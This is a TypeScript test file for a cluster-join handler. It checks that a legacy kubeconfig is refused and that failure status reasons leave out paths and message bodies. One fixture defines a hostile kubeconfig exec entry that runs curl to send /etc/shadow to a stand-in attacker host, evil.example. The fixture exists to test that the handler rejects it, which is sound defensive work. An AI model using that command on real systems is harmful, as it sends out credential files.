import { randomUUID } from "node:crypto";
import { afterAll, describe, expect, it } from "vitest";
import { Role } from "@/common/roles";
import { clusterJoinRequestSchema } from "@/server/bus";
import { createDb } from "@/server/db/client";
import { logger } from "@/server/logger";
import { sealSecret } from "@/server/secrets";
import { makeRegistrationForm } from "@/server/testing/cluster-factories";
import { makeUser } from "@/server/testing/factories";
import { kubeconfigWith } from "@/server/testing/hostile-kubeconfigs";
import type { ClusterDriver } from "./driver";
import { handleClusterJoin } from "./join";
import { registerCluster } from "./registration";

/**
 * Clusters registered before the kubeconfig allow-list, and what a join
 * writes into a status reason: never the kubeconfig, a file path or a body.
 */

const db = createDb(process.env.DATABASE_URL);
afterAll(async () => db.$disconnect());

async function registered(prefix: string): Promise<string> {
  const infra = await makeUser(db, [Role.INFRASTRUCTURE_PROVIDER]);
  const name = `${prefix}-${randomUUID().slice(0, 8)}`;
  await registerCluster(db, infra, makeRegistrationForm(name));
  return name;
}

async function joinRequestOf(name: string) {
  const cluster = await db.cluster.findUniqueOrThrow({ where: { name } });
  const row = await db.outboxMessage.findUniqueOrThrow({ where: { id: cluster.joinOperationId! } });
  return clusterJoinRequestSchema.parse(row.payload);
}

describe("joining with a kubeconfig the allow-list refuses", () => {
  it("refuses a stored kubeconfig with exec as INVALID_CONFIG instead of using it", async () => {
    const name = await registered("legacy");
    // Stored before the allow-list existed: written straight to the row.
    const legacy = kubeconfigWith({
      server: "https://api.cluster.example:6443",
      userExtra: ["exec: { command: /usr/bin/curl, args: [-d, '@/etc/shadow', 'https://evil.example'] }"],
    });
    const sealed = sealSecret(legacy);
    await db.cluster.update({
      where: { name },
      data: {
        managedApi: "https://api.cluster.example:6443",
        kubeconfigCipher: sealed.cipher,
        kubeconfigSha256: sealed.contentId,
      },
    });
    const reply = await db.$transaction(async (tx) =>
      handleClusterJoin(tx, await joinRequestOf(name), { db, log: logger }),
    );
    expect(reply).toMatchObject({ status: "error", code: 400 });
    const cluster = await db.cluster.findUniqueOrThrow({ where: { name } });
    expect(cluster.status).toBe("ERROR");
    expect(cluster.statusReason).toMatch(/^INVALID_CONFIG: .*users\[0\]\.user\.exec is not allowed/);
    expect(cluster.statusReason).not.toMatch(/curl|shadow|evil/);
  });
});

describe("join status reasons", () => {
  it("keeps a driver's reason to one short line without paths or bodies", async () => {
    const name = await registered("noisy");
    const noisy =
      "proxy said:\n<html><body>" +
      "x".repeat(2_000) +
      "</body></html>\nopen /etc/kubernetes/pki/ca.key: denied";
    const driver = {
      kind: "kubernetes",
      cluster: name,
      connect: () =>
        Promise.resolve({
          ok: false as const,
          error: { type: "UNKNOWN" as const, message: noisy, cluster: name },
        }),
    } as unknown as ClusterDriver;
    await db.$transaction(async (tx) =>
      handleClusterJoin(tx, await joinRequestOf(name), { db, log: logger, driverFor: () => driver }),
    );
    const { statusReason } = await db.cluster.findUniqueOrThrow({ where: { name } });
    expect(statusReason).toMatch(/^UNKNOWN: proxy said: <html><body>x+…$/);
    expect(statusReason?.length).toBeLessThanOrEqual(400);
    expect(statusReason).not.toMatch(/[\n\r]|\/etc\//);
  });

  it("says only that the driver failed when it throws something that is not a driver error", async () => {
    const name = await registered("throws");
    await db.$transaction(async (tx) =>
      handleClusterJoin(tx, await joinRequestOf(name), {
        db,
        log: logger,
        driverFor: () => {
          throw new Error("ENOENT: no such file or directory, open '/root/.kube/token'");
        },
      }),
    );
    const { statusReason } = await db.cluster.findUniqueOrThrow({ where: { name } });
    expect(statusReason).toBe("UNKNOWN: the cluster driver failed");
  });
});
